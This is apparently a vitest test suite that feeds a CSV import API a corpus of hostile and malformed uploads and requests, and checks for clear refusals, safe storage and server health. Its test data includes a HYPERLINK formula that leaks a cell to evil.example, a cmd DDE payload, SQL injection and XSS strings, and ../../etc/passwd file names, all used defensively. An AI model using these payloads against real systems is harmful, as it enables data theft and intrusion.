import { createHash } from 'node:crypto';
import fs from 'node:fs/promises';
import http from 'node:http';
import path from 'node:path';
import { beforeAll, describe, expect, inject, it } from 'vitest';

import {
  adminApi,
  Api,
  baseUrl,
  createList,
  createWorkspace,
  uniqueName,
  userWithRole,
  type ApiResponse,
} from '../support/api';
import { healthWhile, slowestHealthAnswer } from '../support/health';
import {
  allContents,
  expectApiError,
  getBytes,
  uploadDirFiles,
  waitUntil,
  type Collection,
  type JobBody,
  type Row,
} from '../support/list-helpers';

/**
 * A corpus of hostile and malformed files and requests, generated here (nothing big is committed).
 * For each: a clear message (checked by key words), nothing loaded or created (the list's contents
 * and the workspace's lists are exactly as before), and the server still answers /api/health.
 * A few inputs are legitimate but dangerous-looking (formulas, path-traversal names, RTL keys,
 * extreme-but-valid values): those must load exactly as sent, and nothing else.
 */

const MiB = 1024 * 1024;

const COLUMNS = [
  { name: 'code', dataType: 'string', isKey: true },
  { name: 'qty', dataType: 'integer' },
  { name: 'price', dataType: 'number' },
  { name: 'flag', dataType: 'boolean' },
  { name: 'day', dataType: 'date' },
  { name: 'at', dataType: 'datetime' },
  { name: 'note', dataType: 'string' },
];
const HEADER = 'code,qty,price,flag,day,at,note';
type Field = 'code' | 'qty' | 'price' | 'flag' | 'day' | 'at' | 'note';
const DEFAULTS: Record<Field, string> = {
  code: 'X1',
  qty: '1',
  price: '1.5',
  flag: 'true',
  day: '2020-01-01',
  at: '2020-01-01T00:00:00Z',
  note: 'ok',
};
const STORED_DEFAULTS: Row = {
  code: 'X1',
  qty: 1,
  price: 1.5,
  flag: true,
  day: '2020-01-01',
  at: '2020-01-01T00:00:00.000Z',
  note: 'ok',
};

/** One CSV line: the defaults with some values replaced (given raw: quote them yourself). */
function line(values: Partial<Record<Field, string>> = {}): string {
  const all = { ...DEFAULTS, ...values };
  return [all.code, all.qty, all.price, all.flag, all.day, all.at, all.note].join(',');
}
function file(...lines: string[]): string {
  return lines.join('\n') + '\n';
}
function stored(values: Row): Row {
  return { ...STORED_DEFAULTS, ...values };
}
function bytes(...parts: (string | number[] | Uint8Array)[]): Uint8Array {
  return Buffer.concat(
    parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : Buffer.from(p as Uint8Array))),
  );
}
/** Deterministic pseudo-random bytes (a linear congruential generator), so a failure replays. */
function noise(length: number, seed = 42): Uint8Array {
  const out = new Uint8Array(length);
  let x = seed;
  for (let i = 0; i < length; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    out[i] = x >>> 24;
  }
  return out;
}
const PNG_HEADER = [
  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00, 0x01,
  0x00, 0x00, 0x00, 0x01, 0x00, 0x08, 0x06, 0x00, 0x00, 0x00,
];
const PRELOADED: Row[] = [stored({ code: 'P1', note: 'before' }), stored({ code: 'P2', qty: 2, note: 'before' })];
const PRELOAD_FILE = file(HEADER, line({ code: 'P1', note: 'before' }), line({ code: 'P2', qty: '2', note: 'before' }));

/** Nested `depth` times: [[[…]]] or {"a":{"a":…}}. */
function deepArray(depth: number): string {
  return '['.repeat(depth) + ']'.repeat(depth);
}
function deepObject(depth: number): string {
  return '{"a":'.repeat(depth) + 'null' + '}'.repeat(depth);
}

type Ctx = { api: Api; workspaceId: string; list: { id: string; name: string }; before: Row[] };

type Outcome =
  /** Refused: by the request (4xx, API error shape) or by the job (failed); the message matches either way. */
  | { reject: RegExp; status?: number; remediation?: RegExp; checkMessage?: (message: string, ctx: Ctx) => void }
  /** Refused by the request with exactly this status. */
  | { status: number; message: RegExp }
  /** Loaded as sent: the new records are exactly these (plus what the list had). */
  | { loaded: Row[]; checkLoaded?: (ctx: Ctx, job: JobBody) => Promise<void> };

type UploadCase = {
  name: string;
  kind: 'upload';
  content: () => string | Uint8Array;
  fileName?: string;
  fields?: Record<string, string>;
  /** The list starts empty (the direct-load path) or with PRELOADED (the staged path). */
  list?: 'empty' | 'loaded';
  /** While the job runs, the server must go on answering /api/health promptly (its job worker shares the process). */
  probeWhileRunning?: boolean;
  outcome: Outcome;
};
type RequestCase = {
  name: string;
  kind: 'request';
  send: (ctx: Ctx) => Promise<ApiResponse>;
  outcome: { status: number; message: RegExp; check?: (response: ApiResponse, ctx: Ctx) => void | Promise<void> };
};
type HostileCase = UploadCase | RequestCase;

const validListBody = (ctx: Ctx, extra: Record<string, unknown> = {}) => ({
  name: uniqueName('Hostile'),
  workspaceId: ctx.workspaceId,
  columns: [{ name: 'id', dataType: 'integer', isKey: true }],
  ...extra,
});

async function rawRequest(
  ctx: Ctx,
  method: string,
  urlPath: string,
  init: { body: BodyInit; contentType?: string },
): Promise<ApiResponse> {
  const response = await fetch(`${ctx.api.baseUrl}${urlPath}`, {
    method,
    headers: { 'x-auth-jwt': ctx.api.token!, ...(init.contentType && { 'content-type': init.contentType }) },
    body: init.body,
  });
  const text = await response.text();
  let body: any = text;
  try {
    body = JSON.parse(text);
  } catch {
    // not JSON
  }
  return { status: response.status, body, headers: response.headers, text };
}

/**
 * A chunked request through node:http, which (unlike fetch) still reads the answer when the server
 * answers before the whole body is sent and then closes the connection.
 */
function chunkedRequest(
  ctx: Ctx,
  method: string,
  urlPath: string,
  contentType: string,
  chunks: string[],
): Promise<ApiResponse> {
  return new Promise((resolve, reject) => {
    const request = http.request(
      `${ctx.api.baseUrl}${urlPath}`,
      {
        method,
        headers: { 'x-auth-jwt': ctx.api.token!, 'content-type': contentType, 'transfer-encoding': 'chunked' },
      },
      (response) => {
        let text = '';
        response.setEncoding('utf8');
        response.on('data', (d: string) => (text += d));
        response.on('end', () => {
          let body: any = text;
          try {
            body = JSON.parse(text);
          } catch {
            // not JSON
          }
          resolve({
            status: response.statusCode ?? 0,
            body,
            headers: new Headers(response.headers as Record<string, string>),
            text,
          });
        });
      },
    );
    let answered = false;
    request.on('response', () => (answered = true));
    request.on('error', (error) => {
      if (!answered) reject(error);
    });
    let next = 0;
    const pump = () => {
      while (next < chunks.length) {
        if (!request.write(chunks[next++]!)) {
          request.once('drain', pump);
          return;
        }
      }
      request.end();
    };
    pump();
  });
}

function multipartBody(
  parts: { name: string; value: string; fileName?: string }[],
  boundary: string,
  close = true,
): string {
  const chunks = parts.map(
    (p) =>
      `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"${p.fileName ? `; filename="${p.fileName}"\r\nContent-Type: text/csv` : ''}\r\n\r\n${p.value}\r\n`,
  );
  return chunks.join('') + (close ? `--${boundary}--\r\n` : '');
}

const JSONL = '0.0.1-json-records';

const CORPUS: HostileCase[] = [
  // ── quoting ───────────────────────────────────────────────────────────────────────────
  {
    name: 'an unbalanced quote that is never closed',
    kind: 'upload',
    content: () =>
      file(HEADER, line({ code: 'X1' }), line({ code: 'X2', note: '"never closed' }), line({ code: 'X3' })),
    outcome: { reject: /quote/i, remediation: /quote/i },
  },
  {
    name: 'a quote in the middle of a quoted value ("ab"c)',
    kind: 'upload',
    content: () => file(HEADER, line({ code: 'X1', note: '"ab"c' }), line({ code: 'X2' })),
    outcome: { reject: /quote/i },
  },
  {
    name: 'an unbalanced quote on an empty list (direct load path)',
    kind: 'upload',
    list: 'empty',
    content: () =>
      file(
        HEADER,
        ...Array.from({ length: 500 }, (_, i) => line({ code: `K${i}` })),
        line({ code: 'X', note: 'a "b" c"' }),
        line({ code: '"Y' }),
      ),
    outcome: { reject: /quote|values, but the header/i },
  },

  // ── line endings ──────────────────────────────────────────────────────────────────────
  {
    name: 'mixed line endings: a lone CR inside an unquoted value splits the record',
    kind: 'upload',
    content: () => file(HEADER, line({ code: 'X1', note: 'first\rhalf' })),
    outcome: { reject: /Row 3 has 1 value, but the header has 7 columns/ },
  },
  {
    name: 'mixed CRLF / LF / CR line endings: the bad row is reported by its true row number',
    kind: 'upload',
    content: () =>
      `${HEADER}\r\n${line({ code: 'X1' })}\n${line({ code: 'X2' })}\r${line({ code: 'X3', day: '2020-02-31' })}\r\n`,
    outcome: { reject: /^Row 4: "day" "2020-02-31" is not a real calendar date/ },
  },

  // ── NUL bytes and binary files named .csv ─────────────────────────────────────────────
  {
    name: 'a NUL byte in the header',
    kind: 'upload',
    content: () => bytes('code,qty\0,price,flag,day,at,note\n', line(), '\n'),
    outcome: { reject: /binary|NUL/i, remediation: /CSV/ },
  },
  {
    name: 'a NUL byte after 200 KB, on an empty list',
    kind: 'upload',
    list: 'empty',
    content: () =>
      bytes(
        HEADER,
        '\n',
        Array.from({ length: 4000 }, (_, i) => line({ code: `K${i}` })).join('\n'),
        '\n',
        line({ code: 'Z', note: 'a' }),
        [0],
        'b\n',
      ),
    outcome: { reject: /NUL/ },
  },
  {
    name: 'a PNG image named .csv',
    kind: 'upload',
    fileName: 'photo.csv',
    content: () => bytes(PNG_HEADER, noise(4000, 7)),
    outcome: { reject: /not a text file|binary/i, remediation: /CSV/ },
  },
  {
    name: '64 KB of random bytes named .csv',
    kind: 'upload',
    fileName: 'random.csv',
    content: () => noise(64 * 1024),
    outcome: { reject: /not a text file|binary|UTF-8/i },
  },
  {
    name: 'a PDF named .csv (no NUL early, high bytes)',
    kind: 'upload',
    fileName: 'report.csv',
    content: () => bytes('%PDF-1.7\n%', [0xe2, 0xe3, 0xcf, 0xd3], '\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'),
    outcome: { reject: /UTF-8|not a text file/i },
  },

  // ── encodings ─────────────────────────────────────────────────────────────────────────
  {
    name: 'invalid UTF-8: a lone continuation byte',
    kind: 'upload',
    content: () => bytes(HEADER, '\n', line({ note: 'caf' }), [0x80], '\n'),
    outcome: { reject: /not valid UTF-8/, remediation: /UTF-8/ },
  },
  {
    name: 'invalid UTF-8: an overlong "/" (C0 AF)',
    kind: 'upload',
    content: () => bytes(HEADER, '\n', line({ note: '..' }), [0xc0, 0xaf], 'etc\n'),
    outcome: { reject: /not valid UTF-8/ },
  },
  {
    name: 'invalid UTF-8: an encoded surrogate (ED A0 80)',
    kind: 'upload',
    content: () => bytes(HEADER, '\n', line({ note: 'x' }), [0xed, 0xa0, 0x80], '\n'),
    outcome: { reject: /not valid UTF-8/ },
  },
  {
    name: 'invalid UTF-8: a character cut off at the end of the file',
    kind: 'upload',
    content: () => bytes(HEADER, '\n', line({ note: 'euro ' }), [0xe2, 0x82]),
    outcome: { reject: /not valid UTF-8/ },
  },
  {
    name: 'invalid UTF-8 after 1 MB, on an empty list',
    kind: 'upload',
    list: 'empty',
    content: () =>
      bytes(
        HEADER,
        '\n',
        Array.from({ length: 20_000 }, (_, i) => line({ code: `K${i}` })).join('\n'),
        '\n',
        line({ code: 'Z', note: 'Z' }),
        [0xe9],
        'rich\n',
      ),
    outcome: { reject: /not valid UTF-8/ },
  },
  {
    name: 'UTF-16LE without a byte-order mark',
    kind: 'upload',
    content: () => Buffer.from(file(HEADER, line()), 'utf16le'),
    outcome: { reject: /UTF-16/, remediation: /UTF-8/ },
  },
  {
    name: 'UTF-16BE without a byte-order mark',
    kind: 'upload',
    content: () => Buffer.from(file(HEADER, line()), 'utf16le').swap16(),
    outcome: { reject: /UTF-16/ },
  },

  // ── size and shape ────────────────────────────────────────────────────────────────────
  {
    name: '100,000 columns in the header',
    kind: 'upload',
    probeWhileRunning: true,
    content: () => file(Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(','), line()),
    outcome: {
      reject: /header does not match/,
      checkMessage: (message) =>
        expect(message.length, 'a message a person can read, not 100,000 names').toBeLessThan(5_000),
    },
  },
  {
    name: '100,000 values in one record (a very long line)',
    kind: 'upload',
    content: () => file(HEADER, line(), 'X2' + ',1'.repeat(99_999)),
    outcome: { reject: /Row 3 has 100,000 values, but the header has 7 columns/ },
  },
  {
    name: 'a single 18 MB quoted field',
    kind: 'upload',
    content: () => `${HEADER}\n${line({ note: `"${'a'.repeat(18 * MiB)}"` })}\n`,
    outcome: { reject: /longer than 16/, remediation: /quote/ },
  },
  {
    name: 'an 18 MB line without any delimiter or quote',
    kind: 'upload',
    content: () => `${HEADER}\n${'b'.repeat(18 * MiB)}\n`,
    outcome: { reject: /longer than 16|values, but the header/ },
  },
  { name: 'a header only, without a line end', kind: 'upload', content: () => HEADER, outcome: { loaded: [] } },
  {
    name: 'an empty file',
    kind: 'upload',
    fileName: 'empty.csv',
    content: () => new Uint8Array(0),
    outcome: { reject: /empty/i },
  },
  {
    name: 'a file that is only a UTF-8 byte-order mark',
    kind: 'upload',
    content: () => bytes([0xef, 0xbb, 0xbf]),
    outcome: { reject: /empty/i },
  },
  {
    name: 'a file of blank lines only',
    kind: 'upload',
    content: () => '\n\n\n\n',
    outcome: { reject: /empty|header does not match/i },
  },

  // ── headers ───────────────────────────────────────────────────────────────────────────
  {
    name: 'duplicate header names',
    kind: 'upload',
    content: () => file('code,qty,price,flag,day,at,code', line()),
    outcome: { reject: /"code" more than once/, remediation: /unique/ },
  },
  {
    name: 'a header that is SQL',
    kind: 'upload',
    content: () => file(`code,qty,price,flag,day,at,"note""; DROP TABLE users; --"`, line()),
    outcome: {
      reject: /header does not match/,
      checkMessage: (message) => expect(message).toContain('note"; DROP TABLE users; --'),
    },
  },
  {
    name: 'a header that is HTML/JS',
    kind: 'upload',
    content: () => file(`code,qty,price,flag,day,at,<script>alert(document.cookie)</script>`, line()),
    outcome: {
      reject: /header does not match/,
      checkMessage: (message) => expect(message).toContain('<script>alert(document.cookie)</script>'),
    },
  },
  {
    name: 'an invisible zero-width space inside a header name',
    kind: 'upload',
    content: () => file('co\u200Bde,qty,price,flag,day,at,note', line()),
    outcome: { reject: /header does not match/ },
  },
  // The decoder drops the first mark and the header's trimming the second: a harmless reading.
  {
    name: 'two byte-order marks before the header',
    kind: 'upload',
    list: 'empty',
    content: () => file('\uFEFF\uFEFF' + HEADER, line()),
    outcome: { loaded: [stored({})] },
  },

  // ── dangerous-looking values that are legitimate text ─────────────────────────────────
  {
    name: 'formula cells: stored as text, neutralised in contents.csv',
    kind: 'upload',
    content: () =>
      file(
        HEADER,
        line({ code: 'F1', note: '"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"' }),
        line({ code: '"=1+2"', note: "+cmd|' /C calc'!A0" }),
        line({ code: 'F3', note: '-2+3' }),
        line({ code: 'F4', note: '@SUM(A1:A9)' }),
        line({ code: 'F5', note: '"\t=1+2"' }),
      ),
    outcome: {
      loaded: [
        stored({ code: 'F1', note: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' }),
        stored({ code: '=1+2', note: "+cmd|' /C calc'!A0" }),
        stored({ code: 'F3', note: '-2+3' }),
        stored({ code: 'F4', note: '@SUM(A1:A9)' }),
        stored({ code: 'F5', note: '\t=1+2' }),
      ],
      checkLoaded: async (ctx) => {
        const exported = await getBytes(ctx.api, `/api/v1/lists/${ctx.list.id}/contents.csv`);
        expect(exported.status).toBe(200);
        const text = exported.bytes.toString('utf8');
        expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
        expect(text).toContain(`'=1+2,`);
        expect(text).toContain(`'+cmd|' /C calc'!A0`);
        expect(text).toContain(`'-2+3`);
        expect(text).toContain(`'@SUM(A1:A9)`);
        expect(text).toContain(`'\t=1+2`);
        // No cell of the export starts with a formula character.
        for (const cell of text.replace(/^\uFEFF/, '').split(/\r\n|,/))
          expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]/);
      },
    },
  },
  {
    name: 'a path-traversal file name (../../etc/passwd): shown without its path, nothing written outside uploads',
    kind: 'upload',
    list: 'empty',
    fileName: '../../etc/passwd',
    content: () => file(HEADER, line({ code: 'T1' })),
    outcome: {
      loaded: [stored({ code: 'T1' })],
      checkLoaded: async (ctx, job) => {
        expect(job.fileName).toBe('passwd');
        const original = await getBytes(ctx.api, `/api/v1/lists/${ctx.list.id}/importJobs/${job.id}/file`);
        expect(original.headers.get('content-disposition')).toBe("attachment; filename*=UTF-8''passwd");
        // Every stored file is named by the server (an upload, or a custom import's CSV), never by the client.
        expect((await uploadDirFiles()).filter((f) => !/^[0-9a-f-]{36}\.(upload|custom\.csv)$/.test(f))).toEqual([]);
        expect(sha256(await fs.readFile('/etc/passwd'))).toBe(etcPasswdHash);
        const besideUploads = await fs.readdir(path.dirname(inject('uploadDir')));
        expect(besideUploads.filter((f) => f === 'passwd' || f === 'etc')).toEqual([]);
      },
    },
  },
  {
    name: 'a Windows path-traversal file name',
    kind: 'upload',
    list: 'empty',
    fileName: '..\\..\\Windows\\win.ini',
    content: () => file(HEADER, line({ code: 'T2' })),
    outcome: {
      loaded: [stored({ code: 'T2' })],
      checkLoaded: async (_ctx, job) => expect(job.fileName).toBe('win.ini'),
    },
  },
  {
    name: 'a control character in the file name',
    kind: 'upload',
    fileName: 'a\u0001b.csv',
    content: () => file(HEADER, line()),
    outcome: { status: 400, message: /malformed/ },
  },
  {
    name: 'a 1,000-character file name',
    kind: 'upload',
    list: 'empty',
    fileName: `${'n'.repeat(1000)}.csv`,
    content: () => file(HEADER, line({ code: 'T3' })),
    outcome: {
      loaded: [stored({ code: 'T3' })],
      checkLoaded: async (_ctx, job) => expect(job.fileName!.length).toBeLessThanOrEqual(255),
    },
  },
  {
    name: 'a right-to-left override in the file name (invoice\u202Egnp.csv shows as "invoicevsc.png")',
    kind: 'upload',
    list: 'empty',
    fileName: 'invoice\u202Egnp.csv',
    content: () => file(HEADER, line({ code: 'T4' })),
    outcome: {
      loaded: [stored({ code: 'T4' })],
      checkLoaded: async (_ctx, job) => expect(job.fileName).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200E\u200F]/),
    },
  },
  {
    name: 'unicode normalisation: NFC and NFD keys stay two records, code points exact',
    kind: 'upload',
    list: 'empty',
    content: () =>
      file(
        HEADER,
        line({ code: 'Caf\u00e9', note: 'NFC' }),
        line({ code: 'Cafe\u0301', note: 'NFD' }),
        line({ code: '\uFB01le', note: 'ligature' }),
      ),
    outcome: {
      loaded: [
        stored({ code: 'Caf\u00e9', note: 'NFC' }),
        stored({ code: 'Cafe\u0301', note: 'NFD' }),
        stored({ code: '\uFB01le', note: 'ligature' }),
      ],
      checkLoaded: async (ctx) => {
        const nfc = await ctx.api.get<Collection<Row>>(
          `/api/v1/lists/${ctx.list.id}/contents?filter=${encodeURIComponent("eq(code,'Caf\u00e9')")}`,
        );
        expect(nfc.body.items.map((r) => r.note)).toEqual(['NFC']);
      },
    },
  },
  {
    name: 'RTL text and a right-to-left override in keys',
    kind: 'upload',
    list: 'empty',
    content: () =>
      file(
        HEADER,
        line({ code: '\u05e9\u05dc\u05d5\u05dd', note: 'hebrew' }),
        line({ code: '\u0645\u0631\u062d\u0628\u0627 123', note: 'arabic' }),
        line({ code: 'invoice\u202Efdp.exe', note: 'override' }),
      ),
    outcome: {
      loaded: [
        stored({ code: '\u05e9\u05dc\u05d5\u05dd', note: 'hebrew' }),
        stored({ code: '\u0645\u0631\u062d\u0628\u0627 123', note: 'arabic' }),
        stored({ code: 'invoice\u202Efdp.exe', note: 'override' }),
      ],
    },
  },
  {
    name: 'SQL in values',
    kind: 'upload',
    list: 'empty',
    content: () => file(HEADER, line({ code: `"x'); DROP TABLE lists; --"`, note: "1' OR '1'='1" })),
    outcome: { loaded: [stored({ code: "x'); DROP TABLE lists; --", note: "1' OR '1'='1" })] },
  },
  {
    name: 'HTML/JS in values',
    kind: 'upload',
    list: 'empty',
    content: () => file(HEADER, line({ code: '<img src=x onerror=alert(1)>', note: '<script>alert(1)</script>' })),
    outcome: { loaded: [stored({ code: '<img src=x onerror=alert(1)>', note: '<script>alert(1)</script>' })] },
  },
  {
    name: 'terminal escape sequences and control characters in values',
    kind: 'upload',
    list: 'empty',
    content: () => file(HEADER, line({ code: 'E1', note: '\u001b[31mred\u001b[0m\u0007\u0008\u007f' })),
    outcome: { loaded: [stored({ code: 'E1', note: '\u001b[31mred\u001b[0m\u0007\u0008\u007f' })] },
  },

  // ── numbers ───────────────────────────────────────────────────────────────────────────
  {
    name: 'integer overflow: 2^63',
    kind: 'upload',
    content: () => file(HEADER, line({ qty: '9223372036854775808' })),
    outcome: { reject: /"qty" "9223372036854775808" is too large/, remediation: /9223372036854775807/ },
  },
  {
    name: 'integer underflow: -2^63 - 1',
    kind: 'upload',
    content: () => file(HEADER, line({ qty: '-9223372036854775809' })),
    outcome: { reject: /is too large/ },
  },
  {
    name: 'the largest integers (±2^63) load exactly, without float rounding',
    kind: 'upload',
    list: 'empty',
    content: () =>
      file(
        HEADER,
        line({ code: 'MAX', qty: '9223372036854775807' }),
        line({ code: 'MIN', qty: '-9223372036854775808' }),
        line({ code: 'SAFE', qty: '9007199254740993' }),
      ),
    outcome: {
      loaded: [
        stored({ code: 'MAX', qty: '9223372036854775807' }),
        stored({ code: 'MIN', qty: '-9223372036854775808' }),
        stored({ code: 'SAFE', qty: '9007199254740993' }),
      ],
    },
  },
  {
    name: 'number overflow: 1e999999',
    kind: 'upload',
    content: () => file(HEADER, line({ price: '1e999999' })),
    outcome: { reject: /"price" "1e999999" is out of range/ },
  },
  {
    name: 'NaN and Infinity as numbers',
    kind: 'upload',
    content: () =>
      file(
        HEADER,
        line({ code: 'N1', price: 'NaN' }),
        line({ code: 'N2', price: 'Infinity' }),
        line({ code: 'N3', price: '-Infinity' }),
      ),
    outcome: { reject: /"price" "NaN" is not a number/ },
  },
  {
    name: 'a 400-digit number loads exactly',
    kind: 'upload',
    list: 'empty',
    content: () => file(HEADER, line({ price: '9'.repeat(400) + '.5' })),
    outcome: { loaded: [stored({ price: '9'.repeat(400) + '.5' })] },
  },
  {
    name: 'negative zero',
    kind: 'upload',
    list: 'empty',
    content: () => file(HEADER, line({ qty: '-0', price: '-0.0' })),
    outcome: { loaded: [stored({ qty: 0, price: 0 })] },
  },

  // ── dates, times, zones ───────────────────────────────────────────────────────────────
  {
    name: 'the date 2023-02-30',
    kind: 'upload',
    content: () => file(HEADER, line({ day: '2023-02-30' })),
    outcome: { reject: /"day" "2023-02-30" is not a real calendar date/ },
  },
  {
    name: 'the year 0000',
    kind: 'upload',
    content: () => file(HEADER, line({ day: '0000-01-01' })),
    outcome: { reject: /is not a real calendar date/ },
  },
  {
    name: 'a leap second 23:59:60',
    kind: 'upload',
    content: () => file(HEADER, line({ at: '2016-12-31T23:59:60Z' })),
    outcome: { reject: /impossible time of day/, remediation: /leap seconds/ },
  },
  {
    name: 'time zones +14:00 and -12:00 (the extremes in use)',
    kind: 'upload',
    list: 'empty',
    content: () =>
      file(
        HEADER,
        line({ code: 'KIRIBATI', at: '2024-01-01T00:00:00+14:00' }),
        line({ code: 'BAKER', at: '2024-01-01T00:00:00-12:00' }),
      ),
    outcome: {
      loaded: [
        stored({ code: 'BAKER', at: '2024-01-01T12:00:00.000Z' }),
        stored({ code: 'KIRIBATI', at: '2023-12-31T10:00:00.000Z' }),
      ],
    },
  },
  {
    name: 'the time zone +25:00',
    kind: 'upload',
    content: () => file(HEADER, line({ at: '2024-01-01T00:00:00+25:00' })),
    outcome: { reject: /impossible time zone offset/ },
  },

  // ── multipart requests ────────────────────────────────────────────────────────────────
  {
    name: 'the quote character as delimiter',
    kind: 'upload',
    fields: { delimiter: '"' },
    content: () => file(HEADER, line()),
    outcome: { status: 400, message: /delimiter cannot be the quote/ },
  },
  {
    name: 'an oversized multipart field (1 MB mode)',
    kind: 'upload',
    fields: { mode: 'upsert' + 'x'.repeat(MiB) },
    content: () => file(HEADER, line()),
    outcome: { status: 400, message: /mode must be one of/ },
  },
  {
    name: 'an errorThreshold of 1e309',
    kind: 'upload',
    fields: { errorThreshold: '1e309' },
    content: () => file(HEADER, line()),
    outcome: { status: 400, message: /errorThreshold/ },
  },
  {
    name: 'a multipart body without a boundary',
    kind: 'request',
    send: (ctx) =>
      rawRequest(ctx, 'POST', `/api/v1/lists/${ctx.list.id}/importJobs`, {
        body: multipartBody([{ name: 'dataFile', value: file(HEADER, line()), fileName: 'a.csv' }], 'b0und'),
        contentType: 'multipart/form-data',
      }),
    outcome: { status: 400, message: /boundary/ },
  },
  {
    name: 'a multipart body cut off before its closing boundary',
    kind: 'request',
    send: (ctx) =>
      rawRequest(ctx, 'POST', `/api/v1/lists/${ctx.list.id}/importJobs`, {
        body: multipartBody(
          [{ name: 'dataFile', value: file(HEADER, line()), fileName: 'a.csv' }],
          'b0und',
          false,
        ).slice(0, -30),
        contentType: 'multipart/form-data; boundary=b0und',
      }),
    outcome: { status: 400, message: /interrupted|malformed|no file/ },
  },
  {
    name: '200 junk multipart fields before the file',
    kind: 'request',
    send: (ctx) =>
      rawRequest(ctx, 'POST', `/api/v1/lists/${ctx.list.id}/importJobs`, {
        body: multipartBody(
          [
            ...Array.from({ length: 200 }, (_, i) => ({ name: `junk${i}`, value: 'x' })),
            { name: 'dataFile', value: file(HEADER, line()), fileName: 'a.csv' },
          ],
          'b0und',
        ),
        contentType: 'multipart/form-data; boundary=b0und',
      }),
    outcome: { status: 400, message: /too many parts: at most 50 fields/ },
  },
  {
    name: 'JSON sent to the upload route',
    kind: 'request',
    send: (ctx) =>
      ctx.api.request('POST', `/api/v1/lists/${ctx.list.id}/importJobs`, { json: { dataFile: file(HEADER, line()) } }),
    outcome: { status: 415, message: /multipart\/form-data/ },
  },

  // ── JSON requests ─────────────────────────────────────────────────────────────────────
  {
    name: '100,000 nested arrays as the columns of POST /api/v1/lists',
    kind: 'request',
    send: (ctx) =>
      ctx.api.request('POST', '/api/v1/lists', {
        body: `{"name":"deep","workspaceId":"${ctx.workspaceId}","columns":${deepArray(100_000)}}`,
        headers: { 'content-type': 'application/json' },
      }),
    outcome: { status: 400, message: /nests arrays and objects more than 32 deep/ },
  },
  {
    name: '100,000 nested objects in an ignored property of POST /api/v1/lists',
    kind: 'request',
    send: (ctx) =>
      ctx.api.request('POST', '/api/v1/lists', {
        body: `{"workspaceId":"${ctx.workspaceId}","extra":${deepObject(100_000)},"columns":[]}`,
        headers: { 'content-type': 'application/json' },
      }),
    outcome: { status: 400, message: /nests arrays and objects more than 32 deep/ },
  },
  {
    name: '100,000 nested arrays as a custom-import input value',
    kind: 'request',
    send: (ctx) =>
      ctx.api.request('POST', `/api/v1/view/${ctx.workspaceId}/custom-import/${JSONL}/validate-input`, {
        body: `{"values":[{"name":"format","value":${deepArray(100_000)}},{"name":"list","value":${deepArray(100_000)}}]}`,
        headers: { 'content-type': 'application/json' },
      }),
    // Refused as it arrives, before parsing: no input of a custom import nests that deep.
    outcome: { status: 400, message: /nests arrays and objects more than 32 deep/ },
  },
  {
    name: 'an oversized JSON body (11 MB, declared length)',
    kind: 'request',
    send: (ctx) =>
      ctx.api.request('POST', '/api/v1/lists', {
        body: JSON.stringify(validListBody(ctx, { description: 'x'.repeat(11 * MiB) })),
        headers: { 'content-type': 'application/json' },
      }),
    outcome: { status: 413, message: /larger than 10 MB/ },
  },
  {
    name: 'an oversized JSON body (11 MB, streamed without a length)',
    kind: 'request',
    send: (ctx) =>
      chunkedRequest(ctx, 'POST', '/api/v1/lists', 'application/json', [
        `{"name":"big","workspaceId":"${ctx.workspaceId}","columns":[{"name":"id","dataType":"integer","isKey":true}],"description":"`,
        ...Array.from({ length: 11 }, () => 'x'.repeat(MiB)),
        '"}',
      ]),
    outcome: { status: 413, message: /larger than 10 MB/ },
  },
  {
    name: 'an oversized text body (11 MB) to PUT …/state',
    kind: 'request',
    send: (ctx) =>
      ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/state`, {
        body: 'deployed'.repeat((11 * MiB) / 8),
        headers: { 'content-type': 'text/plain' },
      }),
    outcome: { status: 413, message: /larger than/ },
  },
  {
    name: 'text/plain sent to a JSON route',
    kind: 'request',
    send: (ctx) =>
      ctx.api.request('POST', '/api/v1/lists', {
        body: JSON.stringify(validListBody(ctx)),
        headers: { 'content-type': 'text/plain' },
      }),
    outcome: { status: 415, message: /JSON/ },
  },
  {
    name: 'a form-urlencoded body sent to a JSON route',
    kind: 'request',
    send: (ctx) =>
      ctx.api.request('POST', '/api/v1/lists', {
        body: `name=x&workspaceId=${ctx.workspaceId}`,
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
      }),
    outcome: { status: 415, message: /JSON/ },
  },
  {
    name: 'a multipart body sent to a JSON route',
    kind: 'request',
    send: (ctx) => {
      const form = new FormData();
      form.append('name', 'x');
      return ctx.api.request('POST', '/api/v1/lists', { body: form });
    },
    outcome: { status: 415, message: /JSON/ },
  },
  {
    name: 'a truncated JSON body',
    kind: 'request',
    send: (ctx) =>
      ctx.api.request('POST', '/api/v1/lists', {
        body: JSON.stringify(validListBody(ctx)).slice(0, -5),
        headers: { 'content-type': 'application/json' },
      }),
    outcome: { status: 400, message: /not valid JSON/ },
  },
  {
    name: 'the NUL character as delimiter',
    kind: 'upload',
    content: () => file(HEADER, line({ code: 'NUL1' })),
    fields: { delimiter: '\u0000' },
    outcome: { status: 400, message: /delimiter cannot be the NUL character/ },
  },
  {
    name: 'a NUL character in a row edit value',
    kind: 'request',
    send: (ctx) =>
      ctx.api.put(`/api/v1/lists/${ctx.list.id}/contents?op=upsert`, { items: [{ code: 'P1', note: 'a\u0000b' }] }),
    outcome: { status: 400, message: /"note" contains a NUL character/ },
  },
  {
    name: 'a NUL character in a filter value',
    kind: 'request',
    send: (ctx) =>
      ctx.api.get(`/api/v1/lists/${ctx.list.id}/contents?filter=${encodeURIComponent("eq(note,'a\u0000b')")}`),
    outcome: { status: 400, message: /filter value for "note" contains a NUL character/ },
  },
  {
    name: 'a job search from the year 10000 (a Date, but not a date PostgreSQL reads)',
    kind: 'request',
    send: (ctx) => ctx.api.get('/api/v1/jobs?from=10000-01-01'),
